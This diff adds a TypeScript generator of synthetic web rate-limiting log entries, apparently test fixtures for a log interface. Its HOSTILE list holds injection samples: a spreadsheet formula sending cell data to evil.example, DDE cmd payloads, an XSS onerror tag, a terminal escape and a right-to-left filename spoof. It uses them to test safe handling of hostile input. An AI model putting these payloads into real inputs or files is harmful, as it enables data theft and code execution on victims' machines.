@@ -1,0 +1,127 @@
+import { COUNTRIES, HOSTS } from './catalog.ts';
+import { below, chance, dashed, hash, hexadecimal, pick } from './random.ts';
+
+const HOUR_MS = 3_600_000;
+
+/** An entry of the event log, with the interface's field names. (Interface, "Event log entry".) */
+export type EventEntry = Record<string, string | number | object>;
+export type TimedEvent = { ms: number; entry: EventEntry };
+
+const PATHS = [
+  '/login',
+  '/search?q=shoes',
+  '/api/v2/items',
+  '/cart',
+  '/account/reset',
+  '/wp-login.php',
+  '/.env',
+];
+const AGENTS = [
+  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0 Safari/537.36',
+  'Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15',
+  'python-requests/2.32.5',
+  'curl/8.16.0',
+  'Go-http-client/2.0',
+];
+/** What somebody on the internet writes into our log on purpose. */
+const HOSTILE = [
+  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
+  "+1+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\u001b[31mred\u001b[0m',
+  'safe\u202egpj.exe',
+  '<img src=x onerror=alert(1)>',
+];
+const ACTIONS = ['CUSTOM-RESPONSE', 'custom-response', 'DROP-REQUEST', 'REDIRECT-302', 'NOP'];
+const STATUSES: Record<string, string> = {
+  'CUSTOM-RESPONSE': 'HTTP_STATUS_SERVICE_UNAVAILABLE',
+  'custom-response': 'HTTP_STATUS_SERVICE_NOT_AVAILABLE',
+  'DROP-REQUEST': 'HTTP_STATUS_FORBIDDEN',
+  'REDIRECT-302': 'HTTP_STATUS_FOUND',
+  NOP: 'HTTP_STATUS_OK',
+};
+
+type Attack = { tuple: string; startMs: number; seconds: number; host: string; country: string; net: number };
+
+/** A flood of requests that is held back for some hours, about every four days. */
+function attackIn(seed: number, hour: number): Attack | null {
+  const block = Math.floor(hour / 96);
+  const start = block * 96 + 10 + below(70, seed, block, 11);
+  const hours = 2 + below(4, seed, block, 12);
+  if (hour < start || hour >= start + hours) return null;
+  return {
+    tuple: dashed(seed, block, 13),
+    startMs: start * HOUR_MS + below(1_800_000, seed, block, 14),
+    seconds: pick([60, 300, 600, 1_800], seed, block, 15),
+    host: pick(HOSTS, seed, block, 16).name,
+    country: pick(COUNTRIES, seed, block, 17),
+    net: hash(seed, block, 18) & 0xffff,
+  };
+}
+
+/** Sometimes nothing happens for a whole day. */
+const quiet = (seed: number, hour: number) => chance(seed, Math.floor(hour / 24), 21) < 0.12;
+
+function urlOf(seed: number, hour: number, index: number, host: string): string {
+  const dice = chance(seed, hour, index, 31);
+  const path = pick(PATHS, seed, hour, index, 32);
+  if (dice < 0.01) return `https://${host}/?q=${pick(HOSTILE, seed, hour, index, 33)}`;
+  if (dice < 0.013) return `https://${host}/long/${'a'.repeat(4_000 + below(60_000, seed, hour, index, 34))}`;
+  return `https://${host}${path}${path.includes('?') ? '&' : '?'}id=${hexadecimal(8, seed, hour, index, 35)}`;
+}
+
+function makeEvent(seed: number, hour: number, index: number, attack: Attack | null): TimedEvent {
+  const ms = hour * HOUR_MS + below(HOUR_MS, seed, hour, index, 41);
+  const micros = below(1_000, seed, hour, index, 42);
+  const seconds = (ms * 1_000 + micros) / 1_000_000;
+  const country = attack?.country ?? pick(COUNTRIES, seed, hour, index, 43);
+  const host = attack?.host ?? pick(HOSTS, seed, hour, index, 44).name;
+  const net = attack?.net ?? hash(seed, hour, index, 45) & 0xffff;
+  const action = attack ? 'CUSTOM-RESPONSE' : pick(ACTIONS, seed, hour, index, 46);
+  const agent =
+    chance(seed, hour, index, 47) < 0.01
+      ? pick(HOSTILE, seed, hour, index, 48)
+      : pick(AGENTS, seed, hour, index, 49);
+  const startMs = attack?.startMs ?? ms - below(120_000, seed, hour, index, 50);
+  const iso = new Date(ms).toISOString().slice(0, 19);
+  return {
+    ms,
+    entry: {
+      id: hexadecimal(24, seed, hour, index, 51),
+      Status: STATUSES[action] ?? 'HTTP_STATUS_OK',
+      'Epoch Time': seconds,
+      Timestamp: `${iso}:${String((ms % 1_000) * 1_000 + micros).padStart(6, '0')}Z`,
+      'Rate Limiting Enforcement Type': action,
+      'Client IP': `10.${net >> 8}.${net & 255}.${1 + below(attack ? 40 : 254, seed, hour, index, 52)}`,
+      URL: urlOf(seed, hour, index, host),
+      Host: host,
+      Referer: chance(seed, hour, index, 53) < 0.5 ? `https://${host}/` : '',
+      'User Agent': agent,
+      'Country Code': country,
+      'Request Method': pick(
+        ['HTTP_METHOD_GET', 'HTTP_METHOD_GET', 'HTTP_METHOD_POST'],
+        seed,
+        hour,
+        index,
+        54,
+      ),
+      'Rate Limiting Enforcement Rule ID': '',
+      '@fields.COMMON_HEADER': {},
+      'Rate Limiting Enforcement Tuple ID': attack?.tuple ?? dashed(seed, hour, index, 55),
+      'Rate Limiting Enforcement Start Epoch': startMs,
+      'Rate Limiting Enforcement Percentage': attack ? 87.5 : 50.0,
+      'Rate Limiting Enforcement Duration': attack?.seconds ?? 60,
+    },
+  };
+}
+
+/** The entries of one hour, newest first, as a pure function of the seed. */
+export function eventsOfHour(seed: number, hour: number): TimedEvent[] {
+  const attack = attackIn(seed, hour);
+  const ordinary = quiet(seed, hour) ? 0 : 1 + below(9, seed, hour, 61);
+  const count = ordinary + (attack ? 500 + below(1_000, seed, hour, 62) : 0);
+  const events = Array.from({ length: count }, (_, index) =>
+    makeEvent(seed, hour, index, index < ordinary ? null : attack),
+  );
+  return events.sort((a, b) => b.ms - a.ms);
+}
